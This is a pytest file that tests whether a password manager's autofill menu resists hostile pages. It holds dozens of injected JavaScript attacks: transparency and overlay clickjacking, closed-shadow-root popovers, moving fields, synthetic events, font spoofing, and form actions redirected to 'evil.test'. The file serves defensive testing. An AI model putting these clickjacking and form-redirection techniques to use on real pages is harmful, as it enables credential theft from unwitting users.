"""T1 to T4: a page that hides, moves or drives our menu gets nothing from it.

`BEFORE` is done before the person goes to the field, `AFTER` while the menu is open. The attack succeeds when a real
click on where the entry is fills a field although the person could not see what they clicked.
"""

import pytest
from page import SETTLED_MS, Page
from support import USER, FakeHost, until
from test_sign_in import PASSWORD, USERNAME

STYLE = "void document.head.appendChild(Object.assign(document.createElement('style'), {textContent: `%s`}))"
HOST = "[...document.documentElement.children].findLast((element) => element.localName === 'div')"
OVERLAY = (
    "Object.assign(document.createElement('div'), {textContent: 'Win a prize', style: "
    "'position: fixed; inset: 0; width: 100vw; height: 100vh; margin: 0; background: white; pointer-events: none'})"
)

# Whatever is in a transition of the page's stays hidden, and takes no clicks.
HELD = (
    STYLE % "::view-transition { background: white; pointer-events: none; animation: held 100s } "
    "@keyframes held { from { color: red } to { color: blue } } "
    "::view-transition-group(*), ::view-transition-old(*), ::view-transition-new(*) { animation: none; opacity: 0 }"
).removeprefix("void ")

POPOVER = f"void document.body.appendChild(Object.assign({OVERLAY}, {{popover: 'manual'}})).showPopover()"

BEFORE = {
    "html opacity": STYLE % "html { opacity: 0.01 !important }",
    "html filter": STYLE % "html { filter: opacity(0.01) }",
    "html transform": STYLE % "html { transform: translateX(1px) }",
    "html scale": STYLE % "html { scale: 0.999 }",
    "html clip-path": STYLE % "html { clip-path: inset(0 0 99% 0) }",
    "html mask": STYLE % "html { mask-image: linear-gradient(transparent, transparent) }",
    "html blend mode": STYLE % "html { mix-blend-mode: multiply }",
    "html perspective": STYLE % "html { perspective: 1px }",
    "body opacity": STYLE % "body { opacity: 0 }",
    "body filter": STYLE % "body { filter: opacity(0%) }",
    "everything transparent": STYLE % "* { opacity: 0 !important }",
    "everything transparent, in a layer": STYLE % "@layer evil { * { opacity: 0 !important } }",
    "html filter, behind an element of that name": (STYLE % "html { filter: opacity(0.01) }")
    + ", void document.body.insertAdjacentHTML('beforeend', '<img name=documentElement>')",
    "a popover stands open": POPOVER,
}

AFTER = {
    "html opacity": STYLE % "html { opacity: 0.01 !important }",
    "html filter": STYLE % "html { filter: opacity(0.01) }",
    "html opacity by animation": "void document.documentElement.animate([{opacity: 0}, {opacity: 0}], 100000)",
    "html transform by animation": "void document.documentElement.animate("
    "[{transform: 'scale(0.5)'}, {transform: 'scale(0.5)'}], 100000)",
    "host removed": f"void {HOST}.remove()",
    "host moved": f"void document.body.append({HOST})",
    "host adopted and put back": f"void ((host) => document.documentElement.append(document.adoptNode(host)))({HOST})",
    "popover on top": POPOVER,
    "popover on top, in a closed shadow root": "void ((root) => root.appendChild("
    f"Object.assign({OVERLAY}, {{popover: 'manual'}})).showPopover())"
    "(document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'}))",
    "popover on the entries that takes clicks, in a closed shadow root": "void ((root) => { const over = "
    f"root.appendChild(Object.assign({OVERLAY}, {{popover: 'manual'}})); over.style.pointerEvents = 'auto'; "
    f"over.style.top = `${{{USERNAME}.getBoundingClientRect().bottom}}px`; over.showPopover(); }})"
    "(document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'}))",
    "modal dialog on top": "void document.body.appendChild(Object.assign(document.createElement('dialog'), "
    "{style: 'pointer-events: none'})).showModal()",
    "backdrop of a dialog": (STYLE % "dialog::backdrop { background: white; pointer-events: none }")
    + ", void document.body.appendChild(document.createElement('dialog')).showModal()",
    "popover with a frame on top": "void ((popover) => { popover.popover = 'manual'; popover.innerHTML = "
    "'<iframe srcdoc=prize style=pointer-events:none></iframe>'; popover.showPopover(); })"
    "(document.body.appendChild(document.createElement('div')))",
    "host adopted, put back and shown again": "void ((host) => { document.documentElement.append("
    f"document.implementation.createHTMLDocument('').adoptNode(host)); host.showPopover(); }})({HOST})",
    "host in a transition of its own": f"void ((host) => {{ {HELD}; "
    f"(host.startViewTransition ? host : document).startViewTransition(() => {{}}); }})({HOST})",
    "field moved away": f"void ({USERNAME}.style.cssText = 'position: fixed; top: 400px; left: 500px')",
    "field removed": f"void {USERNAME}.remove()",
    "field hidden": f"void ({USERNAME}.style.opacity = 0)",
    "form sends elsewhere now": "void document.forms[0].setAttribute('action', 'https://evil.test/')",
    "a button of the form sends elsewhere now": "void document.forms[0].insertAdjacentHTML("
    "'beforeend', '<button formaction=https://evil.test/ hidden>')",
    "focus taken away": f"void {USERNAME}.blur()",
}

# The page may style the element that it sees; the rules inside its shadow root win.
HARMLESS = {
    "host opacity": f"void {HOST}.style.setProperty('opacity', '0.01', 'important')",
    "host filter": f"void {HOST}.style.setProperty('filter', 'opacity(0)', 'important')",
    "host not displayed": f"void {HOST}.style.setProperty('display', 'none', 'important')",
    "host of no size": f"void ({HOST}.style.cssText = 'position: fixed; width: 0; height: 0; overflow: hidden')",
    "registered properties": STYLE
    % "".join(
        f"@property --{name} {{ syntax: 'none'; inherits: false; initial-value: none }} "
        for name in ("surface", "text", "quiet", "line", "choice", "on-choice", "ending")
    ),
    "what stands before and after the host": STYLE
    % "div::before, div::after { content: 'prize' !important; display: block !important; position: fixed !important; "
    "inset: 0 !important; background: white !important; pointer-events: none !important }",
    "first line and letter of the host": STYLE
    % "div::first-line, div::first-letter { color: transparent !important; font-size: 90px !important }",
    "body transparent, the field not": STYLE % "body::before { content: ''; opacity: 0 }",
}


def menu_under(box: dict[str, float], height: int) -> dict[str, float]:
    """The upper part of the menu under a field, to take a picture of: `height` CSS pixels of it."""
    return {"x": box["left"], "y": box["top"] + box["height"] + 8, "width": box["width"], "height": height}


@pytest.fixture(autouse=True)
def sign_in_page(page: Page) -> None:
    page.open("/")


def assert_nothing_was_filled(page: Page, host: FakeHost) -> None:
    """Also when the choice took a moment; a fill takes a small part of that."""
    page.press(after_ms=200)
    assert page.browser.evaluate("[...document.querySelectorAll('input')].every(({value}) => value === '')")
    assert host.requests("fill") == []


@pytest.mark.parametrize("attack", BEFORE)
def test_no_fill_from_a_menu_that_was_tampered_with_before(page: Page, host: FakeHost, attack: str) -> None:
    box = page.box(USERNAME)
    page.browser.evaluate(BEFORE[attack])
    page.click(USERNAME)
    # Where a menu opens all the same, it has stood long enough by the time of the click.
    page.stays_without_menu()
    page.browser.click(box["left"] + 40, box["top"] + box["height"] + 26, after_ms=SETTLED_MS)
    assert_nothing_was_filled(page, host)


@pytest.mark.parametrize("attack", AFTER)
@pytest.mark.parametrize("gesture", ["click", "key"])
def test_no_fill_from_a_menu_that_is_tampered_with(page: Page, host: FakeHost, attack: str, gesture: str) -> None:
    box = page.box(USERNAME)
    page.click(USERNAME)
    assert page.wait_for_menu() == [USER]
    page.press(*(["ArrowDown"] if gesture == "key" else []), after_ms=SETTLED_MS)
    page.browser.evaluate(AFTER[attack])
    if gesture == "key":
        # Enter belongs to the page again once the menu has gone.
        page.browser.evaluate("void addEventListener('submit', (event) => event.preventDefault())")
        page.press("Enter")
    else:
        page.browser.click(box["left"] + 40, box["top"] + box["height"] + 26)
    assert_nothing_was_filled(page, host)


@pytest.mark.parametrize("attack", HARMLESS)
def test_what_leaves_the_menu_visible_leaves_it_useful(page: Page, attack: str) -> None:
    looks_the_same_and_fills(page, HARMLESS[attack])


def looks_the_same_and_fills(page: Page, attack: str) -> None:
    menu = menu_under(page.box(USERNAME), 40)
    page.click(USERNAME)
    page.wait_for_menu()
    before = page.browser.picture(menu)
    page.browser.evaluate(attack)
    assert page.browser.picture(menu) == before
    page.click_first_entry(USERNAME)
    until(lambda: page.value(PASSWORD))


def test_a_dialog_that_comes_again_over_the_menu_closes_it(page: Page, host: FakeHost) -> None:
    page.open("/empty")
    page.browser.evaluate("""void (document.body.innerHTML = `<dialog><div style="width: 80vw; height: 70vh">
        <input id=username autocomplete=username style="pointer-events: auto"></div></dialog>`,
        window.dialog = document.querySelector('dialog'), dialog.showModal())""")
    page.click(USERNAME)
    assert page.wait_for_menu() == [USER]
    page.browser.evaluate(
        f"void (dialog.style.pointerEvents = 'none', dialog.close(), dialog.showModal(), {USERNAME}.focus())"
    )
    page.click_first_entry(USERNAME)
    assert_nothing_was_filled(page, host)


RISES = """void (document.body.innerHTML = '<div></div>', window.root =
    document.querySelector('div').attachShadow({mode: 'closed'}), root.innerHTML = `<%s style="inset: 0; width: 90vw;
        height: 80vh; border: 0; margin: 0"><form><input id=username autocomplete=username> <input id=password
        type=password autocomplete=current-password></form><div id=over hidden
        style="position: fixed; inset: 40px 0 0; background: white; pointer-events: none"></div></%s>`,
    window.form = root.firstElementChild,
    ['beforetoggle', 'toggle', 'close'].forEach((name) =>
        root.addEventListener(name, (event) => event.stopImmediatePropagation(), true)), form.%s(),
    window.rise = () => { form.%s(); root.getElementById('over').hidden = false; form.style.pointerEvents = 'none';
        for (const field of root.querySelectorAll('input')) field.style.pointerEvents = 'auto';
        form.%s(); root.getElementById('username').focus(); })"""
RISING = {
    "popover": RISES % ("div popover=manual", "div", "showPopover", "hidePopover", "showPopover"),
    "dialog": RISES % ("dialog", "dialog", "showModal", "close", "showModal"),
}


@pytest.mark.parametrize("kind", RISING)
@pytest.mark.parametrize("rises", [True, False])
def test_what_comes_above_the_menu_unheard_hides_no_choice(page: Page, host: FakeHost, kind: str, rises: bool) -> None:
    username = "root.getElementById('username')"
    page.open("/empty")
    page.browser.evaluate(RISING[kind])
    page.click(username)
    assert page.wait_for_menu() == [USER]
    if rises:
        page.browser.evaluate("rise()")
    page.click_first_entry(username)
    if rises:
        page.press(after_ms=300)
        assert host.requests("fill") == []
    else:
        until(lambda: page.value("root.getElementById('password')"))


def test_a_refused_choice_closes_the_menu(page: Page, host: FakeHost) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    page.press("ArrowDown", after_ms=SETTLED_MS)
    page.browser.evaluate(AFTER["html opacity"])
    page.press("Enter")
    assert page.entries() == []
    assert_nothing_was_filled(page, host)


def test_a_choice_right_after_the_menu_came_does_not_count(page: Page, host: FakeHost) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    page.click_first_entry(USERNAME, after_ms=0)
    assert_nothing_was_filled(page, host)


GLIDES = {
    "moves": "field.style.cssText = `position: relative; top: ${3 * step}px`",
    "grows": "field.style.cssText = `height: ${height + 3 * step}px`",
}


def glided(glide: str, field: str, steps: int) -> str:
    """Three pixels a step: so little that each by itself would be none."""
    return f"""void ((field) => {{
        const {{height}} = field.getBoundingClientRect();
        for (let step = 1; step <= {steps}; step++) {{ {GLIDES[glide]}; dispatchEvent(new Event('scroll')); }}
    }})({field})"""


@pytest.mark.parametrize("glide", GLIDES)
def test_a_choice_from_a_menu_that_glided_there_does_not_count(page: Page, host: FakeHost, glide: str) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    page.press(after_ms=SETTLED_MS)
    page.browser.evaluate(glided(glide, USERNAME, 20))
    page.click_first_entry(USERNAME, after_ms=0)
    assert_nothing_was_filled(page, host)


# Between the press and the release. The pointer stays on the entry, only that this one is somewhere else by then.
MOVES = {glide: lambda field, glide=glide: glided(glide, field, 3) for glide in GLIDES} | {
    "moves away from the menu": lambda field: f"void ({field}.style.cssText = 'position: relative; top: 9px')"
}


@pytest.mark.parametrize("move", MOVES)
def test_a_menu_that_moves_between_press_and_release_fills_nothing(page: Page, host: FakeHost, move: str) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    entry = page.first_entry(USERNAME)
    page.click_entry_around(entry, lambda: page.browser.evaluate(MOVES[move](USERNAME)))
    # The choice was made, and refused.
    until(lambda: page.entries() == [])
    assert_nothing_was_filled(page, host)


def test_what_is_pressed_and_released_in_one_place_is_filled(page: Page, host: FakeHost, password: str) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    page.click_entry_around(page.first_entry(USERNAME), lambda: page.press(after_ms=200))
    assert until(lambda: page.value(PASSWORD)) == password


def test_a_form_that_sends_elsewhere_after_the_choice_gets_nothing(page: Page, host: FakeHost) -> None:
    host.lock()
    page.click(USERNAME)
    page.wait_for_menu()
    page.click_first_entry(USERNAME)
    until(lambda: len(page.notes()) > 1)
    page.browser.evaluate(AFTER["form sends elsewhere now"])
    host.unlock()
    until(lambda: page.notes() == [])
    page.press(after_ms=200)
    assert [page.value(USERNAME), page.value(PASSWORD)] == ["", ""]


SYNTHETIC = {
    "click on the host": f"void {HOST}.click()",
    "pointer events on the host": f"""void (({{left, bottom}}) => {{
        for (const name of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {{
            const at = {{clientX: left + 40, clientY: bottom + 26, bubbles: true, composed: true}};
            {HOST}.dispatchEvent(new PointerEvent(name, at));
        }}
    }})({USERNAME}.getBoundingClientRect())""",
    "click on what is at the point": f"""void (({{left, bottom}}) =>
        document.elementFromPoint(left + 40, bottom + 26).click())({USERNAME}.getBoundingClientRect())""",
    "keys on the field": f"""void (() => {{ for (const key of ['ArrowDown', 'Enter'])
        {USERNAME}.dispatchEvent(new KeyboardEvent('keydown', {{key, bubbles: true, composed: true}})); }})()""",
    "keys on the window": """void (() => { for (const key of ['ArrowDown', 'Enter'])
        window.dispatchEvent(new KeyboardEvent('keydown', {key, code: key})); })()""",
}


@pytest.mark.parametrize("attack", SYNTHETIC)
def test_events_of_the_page_choose_nothing(page: Page, host: FakeHost, attack: str) -> None:
    page.click(USERNAME)
    page.wait_for_menu()
    page.press(after_ms=SETTLED_MS)
    page.browser.evaluate(SYNTHETIC[attack])
    page.press("Escape")
    assert_nothing_was_filled(page, host)


def test_the_page_cannot_read_the_entries(page: Page) -> None:
    page.click(USERNAME)
    assert page.wait_for_menu() == [USER]
    assert page.browser.evaluate(f"window.find({USER!r})") is False
    assert page.browser.evaluate(f"[{HOST}.shadowRoot, {HOST}.textContent, {HOST}.innerHTML]") == [None, "", ""]
    assert (
        page.browser.evaluate("document.documentElement.getHTML?.({serializableShadowRoots: true}) ?? ''").find(USER)
        < 0
    )


# What the page is given, and what it reads of the menu there.
HANDED_OUT = """void (window.handed = [], window.heard = [], ['mouseover', 'mousemove', 'mousedown', 'mouseup', 'click',
    'mouseout', 'pointerover', 'pointermove', 'pointerdown', 'pointerup', 'pointerout', 'wheel', 'contextmenu',
    'auxclick', 'focusin', 'focusout', 'focus', 'blur'].forEach((name) =>
        addEventListener(name, (event) => {
            const {clientX: left = -1, clientY: top = -1} = event;
            const nodes = {caret: document.caretPositionFromPoint?.(left, top)?.offsetNode,
                range: document.caretRangeFromPoint?.(left, top)?.startContainer,
                selection: getSelection()?.anchorNode, ...event.composedPath()};
            for (const key of ['target', 'relatedTarget', 'originalTarget', 'explicitOriginalTarget', 'rangeParent'])
                nodes[key] = event[key];
            for (const [key, node] of Object.entries(nodes)) {
                const root = node?.getRootNode?.();
                if (!(root instanceof ShadowRoot)) continue;
                handed.push(`${name} ${key}`, ...[...root.querySelectorAll('[data-t]')].map((each) => each.dataset.t));
            }
            heard.push(name);
        }, true)))"""


def pass_over_the_menu(page: Page, field: str) -> None:
    """All that a pointer can do there, a choice last."""
    left, top = page.first_entry(field).values()
    page.browser.scroll(left, top, 10)
    page.browser.click(left, top, after_ms=SETTLED_MS, button=2)
    page.browser.click(left, top)


def test_no_event_hands_the_menu_out(page: Page) -> None:
    page.browser.evaluate(HANDED_OUT)
    page.click(USERNAME)
    page.wait_for_menu()
    pass_over_the_menu(page, USERNAME)
    until(lambda: page.value(PASSWORD))
    assert {"focusin", "mousemove", "wheel", "contextmenu", "click"} <= set(page.browser.evaluate("heard"))
    assert page.browser.evaluate("[...new Set(handed)]") == []


# Each name that could be meant is a font of the page's, with other letters.
FACES = STYLE % "".join(
    f"@font-face {{ font-family: {name}; src: local('DejaVu Serif'), local('DejaVuSerif') }} "
    for name in ("ui-monospace", "monospace", "system-ui", "sans-serif")
)
FACES_CAME = "document.fonts.ready.then(() => [...document.fonts].map(({status}) => status))"


def test_the_command_to_type_stands_in_no_font_of_the_page(page: Page, host: FakeHost) -> None:
    host.lock()
    menu = menu_under(page.box(USERNAME), 80)
    page.click(USERNAME)
    page.wait_for_menu()
    page.click_first_entry(USERNAME)
    until(lambda: len(page.notes()) > 2)
    before = page.browser.picture(menu)
    page.browser.evaluate(FACES)
    page.browser.evaluate(FACES_CAME)
    assert page.browser.picture(menu) == before


def test_no_gesture_no_menu(page: Page, host: FakeHost) -> None:
    page.browser.evaluate(f"void ({USERNAME}.focus(), {PASSWORD}.focus(), {USERNAME}.focus())")
    page.browser.evaluate(f"void {USERNAME}.click()")
    page.browser.evaluate(
        f"void {USERNAME}.dispatchEvent(new FocusEvent('focusin', {{bubbles: true, composed: true}}))"
    )
    assert page.stays_without_menu()
    assert_nothing_was_filled(page, host)
    assert host.requests("suggest") == []


def test_a_field_with_autofocus_opens_nothing_by_itself(page: Page, host: FakeHost) -> None:
    page.open("/autofocus")
    assert page.stays_without_menu()
    assert_nothing_was_filled(page, host)
    assert host.requests("suggest") == []
    page.press("ArrowDown")
    assert page.wait_for_menu() == [USER]
